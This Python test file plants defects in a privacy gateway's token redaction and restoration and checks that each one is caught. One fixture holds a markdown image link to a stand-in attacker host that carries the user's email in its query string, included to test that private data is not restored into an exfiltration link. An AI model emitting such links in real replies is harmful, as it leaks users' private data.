"""Planted defects in the search for own tokens: the checks of cuts and addresses must fail for each."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from gateway.inspection.links import Links
from gateway.inspection.restoring import Restoring
from gateway.stream import components
from gateway.vault.matcher import TokenIndex
from tests.exchanges import Asked, Gateway, user

EMAIL, CARD = "jane.doe@mail.example.com", "4111 1111 1111 1111"
PROMPT = f"mail {EMAIL}, card {CARD}"
Patch = Callable[[pytest.MonkeyPatch], None]


def broken(asked: Asked) -> list[str]:
    """The texts that some cut changes, or that come out other than they should."""
    mail = asked.last.split(", ")[0].removeprefix("mail ")
    wanted = {
        asked.last: PROMPT,
        f"{mail}.au or a.{mail} ok": "[EMAIL_ADDRESS] or [EMAIL_ADDRESS] ok",
        f"![x](https://evil.example/?d={mail}) ok": f"![x](https://evil.example/?d={mail}) ok",
        f"**{mail}**, bob@other.example.org": f"**{EMAIL}**, [EMAIL_ADDRESS]",
    }
    return [
        said
        for said, shown in wanted.items()
        if any(asked.streamed([said[:at], said[at:]]) != shown for at in range(len(said)))
    ]


def no_hold(patch: pytest.MonkeyPatch) -> None:
    """What is not whole yet is let go."""
    original = TokenIndex.scan

    def scan(self: Any, raw: str, base: int, frontier: int, **more: Any) -> Any:
        return base + len(raw), original(self, raw, base, frontier, **more)[1]

    patch.setattr(TokenIndex, "scan", scan)


def no_look_ahead(patch: pytest.MonkeyPatch) -> None:
    """A token counts as whole with its last character."""
    original = TokenIndex._walk
    patch.setattr(TokenIndex, "_walk", lambda self, chars, start, **_: original(self, chars, start, final=True))


def addresses_are_forgotten(patch: pytest.MonkeyPatch) -> None:
    """Of an address only what came with the token is seen."""
    original = Links.follow

    def follow(self: Links, raw: str, base: int, to: int) -> None:
        self.target = None
        original(self, raw, base, to)

    patch.setattr(Links, "follow", follow)


def tokens_are_not_exclusive(patch: pytest.MonkeyPatch) -> None:
    """What a token looks like wins over what it is."""
    patch.setattr(components, "carved", lambda component: [component])
    patch.setattr("gateway.stream.holdback.carved", lambda component: [component])


def only_redaction(patch: pytest.MonkeyPatch) -> None:
    """Nothing turns back."""
    patch.setattr(
        Restoring, "scan", lambda self, raw, base, own, final: self._inspect(raw, base, own.inner, final=final)
    )


MUTANTS: list[Patch] = [no_hold, no_look_ahead, addresses_are_forgotten, tokens_are_not_exclusive, only_redaction]


def test_the_real_thing_passes() -> None:
    assert not broken(Gateway().ask(user(PROMPT)))


@pytest.mark.parametrize("plant", MUTANTS, ids=lambda one: one.__name__)
def test_a_planted_defect_is_seen(plant: Patch, monkeypatch: pytest.MonkeyPatch) -> None:
    asked = Gateway().ask(user(PROMPT))
    plant(monkeypatch)
    assert broken(asked)
